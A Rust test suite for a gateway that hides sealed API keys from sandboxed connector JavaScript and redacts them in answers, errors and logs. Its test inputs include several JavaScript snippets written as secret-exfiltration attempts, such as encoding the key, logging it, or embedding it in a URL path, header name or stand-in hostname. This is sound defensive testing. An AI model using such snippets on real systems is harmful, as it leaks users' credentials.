//! What code gets of secrets, and where they go.

use axum::http::header::{CONTENT_TYPE, LOCATION};
use axum::http::{HeaderName, HeaderValue, StatusCode};
use axum::response::IntoResponse as _;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::{KEY, SEALED, content, desk, failure};
use crate::egress::api::{answer, raw};
use crate::harness::{Seen, Upstream};

/// An API that repeats everything it is sent.
async fn echo() -> Upstream {
    Upstream::start(|seen: Seen| async move {
        let mut said: Vec<String> = seen
            .headers
            .iter()
            .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(value.as_bytes())))
            .collect();
        said.push(seen.uri.to_string());
        said.push(String::from_utf8_lossy(&seen.body).into_owned());
        ([("x-echo", said.join("|").replace('\n', " "))], said.join("\n")).into_response()
    })
    .await
}

const EVERYWHERE: &str = r#"
const key = data.auth.api_key;
const base = data.input.url;
await ld.request({ method: "POST", url: `${base}/json?k=${encodeURIComponent(key)}`,
  headers: { Authorization: "Bearer " + key, "X-Trimmed": [key].join("").trim() },
  body: { nested: { key }, list: [key] } });
await ld.request({ method: "POST", url: `${base}/basic`,
  headers: { Authorization: `Basic ${btoa(`user:${key}`)}` } });
await ld.request({ method: "POST", url: `${base}/form`,
  headers: { "Content-Type": "application/x-www-form-urlencoded" },
  body: { grant_type: "client_credentials", client_secret: key } });
return { done: true };
"#;

#[tokio::test]
async fn a_handle_becomes_the_secret_on_its_way_out() {
    let upstream = echo().await;
    let workspace = desk(&upstream.base_url(), SEALED, &[("send", "write", EVERYWHERE)]);
    let mut session = workspace.serve().await;
    let answer = session.call("desk__send", json!({ "url": upstream.base_url() })).await;
    assert_eq!(content(&answer)["done"], true);
    let seen = upstream.seen();
    assert_eq!(seen[0].headers["authorization"], format!("Bearer {KEY}"));
    assert_eq!(seen[0].headers["x-trimmed"], KEY);
    assert_eq!(seen[0].uri.query(), Some(format!("k={KEY}").as_str()));
    let body: Value = serde_json::from_slice(&seen[0].body).unwrap();
    assert_eq!(body, json!({ "nested": { "key": KEY }, "list": [KEY] }));
    assert_eq!(
        seen[1].headers["authorization"],
        format!("Basic {}", STANDARD.encode(format!("user:{KEY}")))
    );
    assert_eq!(
        seen[2].body,
        format!("grant_type=client_credentials&client_secret={KEY}").into_bytes()
    );
}

const ELSEWHERE: &str = r#"
const key = data.auth.api_key;
const places = {
  header: { headers: { "X-K": "Bearer " + key } },
  query: { params: { k: key } },
  body: { body: { k: key } },
  none: {},
};
return (await ld.request({ method: "POST", url: data.input.url, ...places[data.input.query] })).status;
"#;

#[tokio::test]
async fn a_secret_goes_to_no_server_that_gets_no_credential() {
    let (upstream, other) = (echo().await, echo().await);
    for (credentials, place, sent) in [
        (false, "header", false),
        (false, "query", false),
        (false, "body", false),
        (false, "none", true),
        (true, "header", true),
    ] {
        let server = format!(
            "{SEALED}\n[connection.servers.other]\nbase_url = \"{}\"\ncredentials = {credentials}\n",
            other.base_url()
        );
        let workspace = desk(&upstream.base_url(), &server, &[("send", "write", ELSEWHERE)]);
        let mut session = workspace.serve().await;
        let before = other.seen().len();
        let input = json!({ "url": format!("{}/x", other.base_url()), "query": place });
        let answer = session.call("desk__send", input).await;
        assert_eq!(other.seen().len() - before, usize::from(sent), "{place}: {answer:?}");
        if !sent {
            assert!(format!("{answer:?}").contains("credentials = false"), "{answer:?}");
        }
    }
}

/// Ways to get hold of the secret, each of which ends with whatever it got.
const ATTEMPTS: &[(&str, &str)] = &[
    (
        "result",
        "return { key: data.auth.api_key, all: JSON.stringify(data) };",
    ),
    ("reversed", "return { key: [...data.auth.api_key].reverse().join('') };"),
    ("split", "return { key: data.auth.api_key.split('') };"),
    ("encoded", "return { key: btoa(data.auth.api_key) };"),
    (
        "logged",
        "ld.log(data.auth.api_key, data); console.log(data.auth); return { done: 1 };",
    ),
    ("thrown", "throw new Error('the key is ' + data.auth.api_key);"),
    (
        "echoed",
        "const r = await ld.request({ method: 'POST', url: data.input.url, headers: { 'X-K': data.auth.api_key },\n\
        body: { k: data.auth.api_key } }); return { text: [...r.text].reverse().join(''), header: r.headers['x-echo'] };",
    ),
    (
        "path",
        "await ld.request({ method: 'GET', url: data.input.url + '/' + data.auth.api_key }); return 1;",
    ),
    (
        "name",
        "await ld.request({ method: 'GET', url: data.input.url, headers: { [data.auth.api_key]: 'x' } }); return 1;",
    ),
    (
        "method",
        "await ld.request({ method: data.auth.api_key, url: data.input.url }); return 1;",
    ),
    (
        "host",
        "await ld.request({ method: 'GET', url: `http://${data.auth.api_key}.example/` }); return 1;",
    ),
    ("digest", "return { hash: ld.hash('sha256', data.auth.api_key) };"),
];

#[tokio::test]
async fn no_code_gets_hold_of_a_sealed_secret() {
    let upstream = echo().await;
    let actions: Vec<(&str, &str, &str)> = ATTEMPTS.iter().map(|(name, code)| (*name, "write", *code)).collect();
    let workspace = desk(&upstream.base_url(), SEALED, &actions);
    let mut session = workspace.serve().await;
    let reversed: String = KEY.chars().rev().collect();
    let digest = toolgate::crypto::sha256_hex(KEY.as_bytes());
    for (name, _) in ATTEMPTS {
        let answer = session
            .call(
                &format!("desk__{name}"),
                json!({ "url": format!("{}/echo", upstream.base_url()) }),
            )
            .await
            .to_string();
        for form in [KEY, &reversed, &STANDARD.encode(KEY), &digest] {
            assert!(!answer.contains(form), "{name}: {answer}");
        }
    }
    // Only one of the attempts was a request that may leave.
    assert_eq!(upstream.count(), 1);
    let ended = session.close().await;
    assert!(!ended.stderr.contains(KEY), "{}", ended.stderr);
    for row in workspace.rows().await {
        let log = workspace.run(&["logs", "--call", &row.call_id]).await;
        assert_eq!(log.code, Some(0), "{log:?}");
        assert!(!log.stdout.contains(KEY), "{log:?}");
        if row.action.as_deref() == Some("logged") {
            assert!(log.stdout.contains("info   [SEALED]"), "{log:?}");
        }
    }
}

#[tokio::test]
async fn a_connector_may_expose_its_secrets_and_is_reported() {
    let upstream = echo().await;
    let settings = SEALED.replacen("[security]\n", "[security]\nsecrets = \"exposed\"\n", 1);
    let code = "const key = data.auth.api_key;\n\
                await ld.request({ method: 'POST', url: data.input.url, headers: { 'X-Sum': key.slice(0, 6) } });\n\
                return { key, length: key.length };";
    let workspace = desk(&upstream.base_url(), &settings, &[("send", "write", code)]);
    let check = workspace.run(&["check"]).await;
    assert!(check.stderr.contains("exposed-secrets"), "{check:?}");
    let mut session = workspace.serve().await;
    let answer = session
        .call("desk__send", json!({ "url": format!("{}/echo", upstream.base_url()) }))
        .await;
    assert_eq!(content(&answer), &json!({ "key": "[REDACTED]", "length": KEY.len() }));
    assert_eq!(upstream.seen()[0].headers["x-sum"], KEY[..6]);
}

/// The connection breaks off in the middle of the key, or more comes than is read of an answer.
#[tokio::test]
async fn the_beginning_of_a_secret_is_not_left_at_the_end_of_a_failure_that_is_cut() {
    const QUOTING: &str = "const answer = await ld.request({ url: '/any' });\n\
                           throw new Error(`said: ${answer.status} ${answer.text}`);";
    const DECLARED: &str = "[[actions]]\nname = \"ask\"\nmethod = \"GET\"\npath = \"/any\"\n";
    let body = format!("{{\"error\":\"bad key {KEY}");
    let head = "HTTP/1.1 502 Bad Gateway\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: ";
    let begun = &body[..body.len() - 2];
    let broken = format!("{head}9999\r\n\r\n{begun}");
    let long = format!("{head}{}\r\n\r\n{body}", body.len());
    let limit = format!("[security]\nmax_response_bytes = {}\n", begun.len());
    let key = "type = \"api_key\"\nheader_name = \"X-Key\"\nkey = \"env:DESK_KEY\"\n";
    let settings = SEALED.replacen("type = \"api_key\"\n", key, 1) + DECLARED;
    for (told, limit) in [(broken, "[security]\n"), (long, limit.as_str())] {
        let said = told.clone();
        let api = raw(move |mut stream| {
            let said = said.clone();
            async move { answer(&mut stream, said.as_bytes()).await }
        })
        .await;
        for secrets in ["sealed", "exposed"] {
            let settings = settings.replacen("[security]\n", &format!("{limit}secrets = \"{secrets}\"\n"), 1);
            let workspace = desk(&format!("http://{api}"), &settings, &[("send", "read", QUOTING)]);
            let mut session = workspace.serve().await;
            for (tool, said) in [("desk__send", "said: 502"), ("desk__ask", "502")] {
                let answer = session.call(tool, json!({})).await;
                let shown = failure(&answer);
                assert!(shown.contains(said), "{shown}");
                assert!(!shown.contains(&KEY[..4]), "{told} {secrets} {tool}: {shown}");
            }
        }
    }
}

/// An error quotes the beginning of such a URL, which must not end within the secret.
#[tokio::test]
async fn no_part_of_an_exposed_secret_is_quoted_from_a_url_that_cannot_be_read() {
    let upstream = echo().await;
    let settings = SEALED.replacen("[security]\n", "[security]\nsecrets = \"exposed\"\n", 1);
    let code = "await ld.request({ url: data.input.title + data.auth.api_key });";
    let workspace = desk(&upstream.base_url(), &settings, &[("send", "write", code)]);
    let mut session = workspace.serve().await;
    for before in [80, 84, 88, 92, 96] {
        let title = format!("{:-<before$}", "no url ");
        let answer = session.call("desk__send", json!({ "title": title })).await;
        let told = failure(&answer);
        assert!(told.contains("its URL `no url ---"), "{told}");
        assert!(!told.contains(&KEY[..4]), "{before}: {told}");
    }
}

/// What is kept of a long text must not end within the secret.
#[tokio::test]
async fn no_part_of_an_exposed_secret_is_left_where_a_text_is_cut() {
    let upstream = echo().await;
    let settings = SEALED.replacen("[security]\n", "[security]\nsecrets = \"exposed\"\n", 1);
    let code = "const key = data.auth.api_key;\n\
                ld.progress(1, 2, 'y'.repeat(1010) + key);\n\
                await ld.wait(20);\n\
                ld.log('x'.repeat(262130) + key);\n\
                throw new Error('z'.repeat(7990) + key);";
    let workspace = desk(&upstream.base_url(), &settings, &[("send", "read", code)]);
    let mut session = workspace.serve().await;
    let parameters = json!({ "name": "desk__send", "arguments": {}, "_meta": { "progressToken": "p" } });
    let id = session.send("tools/call", parameters).await;
    let reported = loop {
        let report = session.notification("notifications/progress").await;
        let message = report["params"]["message"].as_str().unwrap_or_default().to_owned();
        if message.starts_with('y') {
            break message;
        }
    };
    assert!(reported.len() <= 1024 && !reported.contains(&KEY[..4]), "{reported}");
    let answer = session.response(id).await;
    let told = failure(&answer);
    assert!(told.contains("zzz") && !told.contains(&KEY[..4]), "{told}");
    session.close().await;
    let row = workspace.rows().await.pop().unwrap();
    let log = workspace.run(&["logs", "--call", &row.call_id]).await;
    assert!(
        log.stdout.contains("xxx") && !log.stdout.contains(&KEY[..4]),
        "{}",
        log.stdout.len()
    );
}

#[tokio::test]
async fn a_missing_secret_is_told_before_anything_is_sent() {
    let upstream = echo().await;
    let settings = SEALED.replace("DESK_KEY", "NOT_SET");
    let workspace = desk(&upstream.base_url(), &settings, &[("send", "write", EVERYWHERE)]);
    let mut session = workspace.serve().await;
    let answer = session.call("desk__send", json!({ "url": upstream.base_url() })).await;
    assert!(failure(&answer).starts_with("AUTHENTICATION_FAILED"), "{answer}");
    assert_eq!(upstream.count(), 0);
}

const READING: &str = r#"
const told = await ld.request({ url: `${data.input.url}/wide` });
const names = Object.keys({ ...told.headers });
return { text: [...told.text].join("."), names: names.map((name) => [...name].join(".")) };
"#;

const FOLLOWING: &str = "await ld.request({ url: `${data.input.url}/away` });";

const THROWING: &str = "throw new Error('x'.repeat(2e6));";

/// Answers reach code in the encoding that they have, with names that the API chose; a redirect leads where the API says.
#[tokio::test]
async fn a_secret_that_the_api_repeats_is_hidden_in_any_encoding_and_place() {
    let upstream = Upstream::start(|seen: Seen| async move {
        if seen.uri.path().ends_with("/away") {
            return (
                StatusCode::FOUND,
                [(LOCATION, format!("https://{KEY}.example.invalid/"))],
            )
                .into_response();
        }
        let wide: Vec<u8> = KEY.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut answer = ([(CONTENT_TYPE, "text/plain; charset=UTF-16LE")], wide).into_response();
        let name = HeaderName::from_bytes(format!("x-{KEY}").as_bytes()).unwrap();
        answer.headers_mut().insert(name, HeaderValue::from_static("1"));
        answer
    })
    .await;
    let actions = [
        ("reading", "read", READING),
        ("following", "read", FOLLOWING),
        ("throwing", "read", THROWING),
    ];
    let workspace = desk(&upstream.base_url(), SEALED, &actions);
    let mut session = workspace.serve().await;
    let read = session
        .call("desk__reading", json!({ "url": upstream.base_url() }))
        .await;
    assert!(
        content(&read)["text"]
            .as_str()
            .unwrap()
            .replace('.', "")
            .contains("[REDACTED]"),
        "{read}"
    );
    assert!(!read.to_string().replace('.', "").contains(KEY), "{read}");
    let followed = session
        .call("desk__following", json!({ "url": upstream.base_url() }))
        .await;
    assert!(!followed.to_string().contains(KEY), "{followed}");
    // What code throws is bounded wherever it is kept.
    let thrown = session.call("desk__throwing", json!({})).await.to_string();
    assert!(thrown.len() < 100_000, "{}", thrown.len());
    let ended = session.close().await;
    assert!(ended.stderr.contains("a request is refused"), "{}", ended.stderr);
    assert!(!ended.stderr.contains(KEY), "{}", ended.stderr);
    assert!(
        ended.stderr.contains("target=https://[REDACTED].example.invalid:443/ "),
        "{}",
        ended.stderr
    );
    for row in workspace.rows().await {
        let log = workspace.run(&["logs", "--call", &row.call_id]).await;
        assert!(!log.stdout.contains(KEY) && log.stdout.len() < 100_000, "{log:?}");
    }
}

/// The first bytes of a text say in what it is written, whatever its type says.
#[tokio::test]
async fn a_secret_is_hidden_in_the_encoding_that_the_first_bytes_of_an_answer_show() {
    let upstream = Upstream::start(|seen: Seen| async move {
        let wide: Vec<u16> = format!("\u{feff}{KEY}").encode_utf16().collect();
        let path = seen.uri.path();
        let body: Vec<u8> = if path.ends_with("/big") {
            wide.into_iter().flat_map(u16::to_be_bytes).collect()
        } else {
            wide.into_iter().flat_map(u16::to_le_bytes).collect()
        };
        let kind = if path.contains("/named/") {
            "text/plain; charset=utf-16"
        } else {
            "application/octet-stream"
        };
        ([(CONTENT_TYPE, kind)], body).into_response()
    })
    .await;
    let code = "const { buffer } = await ld.request({ url: data.input.url });\n\
                return { letters: [...buffer].filter((byte) => byte > 0 && byte < 128).map((byte) => String.fromCharCode(byte)).join('.') };";
    let workspace = desk(&upstream.base_url(), SEALED, &[("look", "read", code)]);
    let mut session = workspace.serve().await;
    for path in ["named/big", "named/little", "other/big", "other/little"] {
        let url = format!("{}/{path}", upstream.base_url());
        let answer = session.call("desk__look", json!({ "url": url })).await;
        let letters = content(&answer)["letters"].as_str().unwrap().replace('.', "");
        assert_eq!(letters, "[REDACTED]", "{path}: {answer}");
    }
}

const NAMES: &str = r#"
const { headers } = await ld.request({ url: `${data.input.url}/names` });
return { names: Object.keys({ ...headers }).map((name) => [...name].join(".")) };
"#;

/// HTTP makes the names of headers lower case (RFC 9113, section 8.2), secrets in them too.
#[tokio::test]
async fn a_secret_with_capitals_is_hidden_in_the_name_of_a_header() {
    const MIXED: &str = "Sk-Mixed-9876";
    let upstream = Upstream::start(|_| async {
        let mut answer = StatusCode::OK.into_response();
        for name in [
            format!("x-{MIXED}"),
            STANDARD.encode(MIXED).replace('=', ""),
            "x-other".to_owned(),
        ] {
            let name = HeaderName::from_bytes(name.as_bytes()).unwrap();
            answer.headers_mut().insert(name, HeaderValue::from_static("1"));
        }
        answer
    })
    .await;
    let mut workspace = desk(&upstream.base_url(), SEALED, &[("names", "read", NAMES)]);
    workspace.set("DESK_KEY", MIXED);
    let mut session = workspace.serve().await;
    let answer = session.call("desk__names", json!({ "url": upstream.base_url() })).await;
    let names: Vec<String> = serde_json::from_value(content(&answer)["names"].clone()).unwrap();
    let names: Vec<String> = names.iter().map(|name| name.replace('.', "")).collect();
    for name in ["x-[redacted]", "[redacted]", "x-other"] {
        assert!(names.iter().any(|given| given == name), "{name}: {names:?}");
    }
    let told = names.join(" ");
    assert!(!told.contains(&MIXED.to_lowercase()), "{told}");
    assert!(!told.contains(&STANDARD.encode(MIXED).to_lowercase()[..10]), "{told}");
}

/// An action without code, of a connection that has a secret for code only.
const NOTE: &str =
    "\n[[actions]]\nname = \"note\"\ndescription = \"Reads the note.\"\nmethod = \"GET\"\npath = \"/note\"\n";

#[tokio::test]
async fn what_code_alone_uses_is_hidden_from_actions_without_code_too() {
    let upstream =
        Upstream::start(|_| async { axum::Json(json!({ "note": format!("{KEY} is the key") })).into_response() }).await;
    let settings = format!("{SEALED}unset = \"env:DESK_UNSET\"\n{NOTE}");
    let workspace = desk(&upstream.base_url(), &settings, &[]);
    let mut session = workspace.serve().await;
    let answer = session.call("desk__note", json!({})).await;
    assert_eq!(content(&answer), &json!({ "note": "[REDACTED] is the key" }));
    assert!(!upstream.seen()[0].headers.iter().any(|(_, value)| value == KEY));
}

/// A handle is short and a secret may be long, so that a body of handles could become more than the machine has memory for.
#[tokio::test]
async fn a_request_holds_no_more_than_a_bounded_length_of_secrets() {
    let upstream = echo().await;
    let code = "const text = data.auth.api_key.repeat(Number(data.input.query));\n\
                const headers = { 'Content-Type': 'text/plain' };\n\
                return (await ld.request({ method: 'POST', url: data.input.url, headers, body: text })).status;";
    let workspace = desk(&upstream.base_url(), SEALED, &[("send", "write", code)]);
    let mut session = workspace.serve().await;
    let most = 1024 * 1024 / KEY.len();
    for (count, is_sent) in [(most, true), (most + 1, false)] {
        let arguments = json!({ "url": format!("{}/echo", upstream.base_url()), "query": count.to_string() });
        let answer = session.call("desk__send", arguments).await;
        if is_sent {
            assert_eq!(
                upstream.seen().first().map(|seen| seen.body.len()),
                Some(count * KEY.len()),
                "{answer}"
            );
        } else {
            let said = failure(&answer);
            assert!(said.contains("would be longer than 1048576 bytes"), "{said}");
        }
    }
    assert_eq!(upstream.count(), 1);
}

/// What an API gave to the code is no secret of the connection, but of somebody.
#[tokio::test]
async fn what_only_looks_like_a_secret_is_not_logged() {
    let code = "ld.log('card 4111 1111 1111 1111', 'Bearer abcdef1234567890abcdef', { password: 'hunter2' });\n\
                console.log('Cookie: sid=abc123'); return { done: true };";
    let workspace = desk("http://127.0.0.1:9/v1", SEALED, &[("note", "read", code)]);
    let mut session = workspace.serve().await;
    session.call("desk__note", json!({})).await;
    let id = workspace.rows().await[0].call_id.clone();
    let log = workspace.run(&["logs", "--call", &id]).await;
    assert_eq!(log.stdout.matches("[REDACTED]").count(), 4, "{}", log.stdout);
    for secret in ["4111", "abcdef1234567890", "hunter2", "abc123"] {
        assert!(!log.stdout.contains(secret), "{}", log.stdout);
    }
}
